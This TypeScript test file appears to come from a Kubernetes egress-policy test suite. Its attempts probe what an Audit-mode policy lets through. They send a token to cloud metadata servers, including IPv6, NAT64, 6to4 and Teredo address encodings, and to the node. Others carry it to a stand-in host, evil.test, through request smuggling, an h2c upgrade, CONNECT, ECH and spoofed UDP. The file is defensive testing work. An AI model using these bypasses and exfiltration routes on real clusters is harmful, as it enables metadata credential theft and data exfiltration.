/**
 * A pod that only Audit policies select: the wire is left as it was, so nearly everything passes. What is kept from it all
 * the same (POLICY.md, Audit) is what is tried here.
 */
import type {Attempt, Attacker} from '../attempt.ts';
import {METADATA, NODE_IP4, NODE_IP6, NODE_PORT, SERVICE_OF_METADATA, SITES} from '../addresses.ts';
import {clientHello} from '../hello.ts';
import {http, say} from '../wire.ts';
import type {World} from '../world.ts';

const way = (
  id: string,
  title: string,
  attempt: (by: Attacker, world: World) => Promise<unknown>,
  more: Partial<Attempt> = {},
): Attempt => ({
  id: `audit-${id}`,
  title: `in Audit: ${title}`,
  invariant: 4,
  attempt: async (by, world) => void (await attempt(by, world)),
  control: 'free',
  worlds: ['audit'],
  ...more,
});

const ADDRESSES: readonly (readonly [id: string, title: string, url: string])[] = [
  ['metadata', 'the metadata server', `http://${METADATA}`],
  ['metadata-service', 'the metadata server behind a Service', `http://${SERVICE_OF_METADATA}`],
  ['metadata-6', 'a metadata server’s IPv6 address', 'http://[fd00:ec2::254]'],
  ['azure', 'Azure’s wire server', 'http://168.63.129.16'],
  ['nat64', 'the metadata server behind NAT64', 'http://[64:ff9b::a9fe:a9fe]'],
  ['6to4', 'the metadata server inside 6to4', 'http://[2002:a9fe:a9fe::1]'],
  ['teredo', 'the metadata server inside Teredo', 'http://[2001:0:cb00:7105:0:0:5601:5601]'],
  ['node', 'the node', `http://${NODE_IP4}:8080`],
  ['node6', 'the node over IPv6', `http://[${NODE_IP6}]:8080`],
  ['nodeport', 'a NodePort', `http://${NODE_IP4}:${NODE_PORT}`],
];

export const AUDIT_WAYS: readonly Attempt[] = [
  ...ADDRESSES.map(([id, title, url]) =>
    way(id, title, (by) => by.curl(`${url}/${by.token}`), {worlds: ['audit', 'audit-unattended']}),
  ),
  way('udp-metadata', 'UDP to the metadata server', (by) => by.datagram(METADATA, 80, by.token)),
  way('udp-nat64', 'UDP to the metadata server behind NAT64', (by) => by.datagram('64:ff9b::a9fe:a9fe', 80, by.token)),
  way('udp-6to4', 'UDP to the metadata server inside 6to4', (by) => by.datagram('2002:a9fe:a9fe::1', 80, by.token)),
  way('udp-node', 'UDP to the node', (by) => by.datagram(NODE_IP4, 8080, by.token)),
  way('udp-node6', 'UDP to the node over IPv6', (by) => by.datagram(NODE_IP6, 8080, by.token)),
  way('ping-metadata', 'ping to the metadata server', (by) => by.program('raw', 'ping', METADATA, by.token)),
  way(
    'spoof',
    'UDP with a foreign source address',
    (by) => by.program('raw', 'spoof', '198.51.100.77', SITES.evil, '9999', by.token),
    {invariant: 3},
  ),
  way(
    'smuggling',
    'both framings',
    (by) =>
      say(
        by.connect(SITES.evil, 80),
        `${http('POST /a HTTP/1.1', 'Host: evil.test', 'Content-Length: 40', 'Transfer-Encoding: chunked')}0\r\n\r\nGET /${by.token} HTTP/1.1\r\n`,
      ),
    {invariant: 5},
  ),
  way(
    'h2c',
    'an upgrade to h2c',
    (by) =>
      say(
        by.connect(SITES.evil, 80),
        http(
          `GET /${by.token} HTTP/1.1`,
          'Host: evil.test',
          'Connection: Upgrade, HTTP2-Settings',
          'Upgrade: h2c',
          'HTTP2-Settings: AAMAAABkAAQAAP__',
        ),
      ),
    {invariant: 3},
  ),
  way(
    'connect',
    'CONNECT on a captured connection',
    (by) => say(by.connect(SITES.evil, 80), http(`CONNECT ${by.token}.test:80 HTTP/1.1`, 'Host: evil.test:80')),
    {invariant: 3},
  ),
  way('ech', 'ECH', (by) => say(by.connect(SITES.evil, 443), clientHello({names: ['evil.test'], ech: by.token})), {
    invariant: 3,
  }),
  way(
    'host',
    'an absolute target and a Host that disagree',
    (by) => say(by.connect(SITES.evil, 80), http(`GET http://evil.test/${by.token} HTTP/1.1`, 'Host: plain.test')),
    {invariant: 2},
  ),
];
